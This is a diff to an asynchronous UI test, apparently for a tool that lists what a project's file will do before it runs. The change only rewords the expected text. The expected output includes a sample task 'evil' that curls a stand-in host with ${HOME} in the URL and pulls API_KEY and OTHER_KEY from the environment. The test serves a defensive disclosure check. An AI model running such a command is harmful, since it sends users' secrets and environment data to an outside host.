@@ -141,10 +141,10 @@ async def test_a_projects_file_is_shown_whole_before_anything_starts_and_the_fir
         await run.press("enter")
         await run.shows(
             "evil: curl 'http://x/${HOME}'",
-            "is given from your environment: HOME, API_KEY",
+            "gets from your environment: HOME, API_KEY",
             "sets K=${API_KEY}",
             "on the host evil.example",
-            "is given from your environment: OTHER_KEY",
+            "gets from your environment: OTHER_KEY",
             "signs in as me, with the secret '${OTHER_KEY}'",
             "Not now",
         )
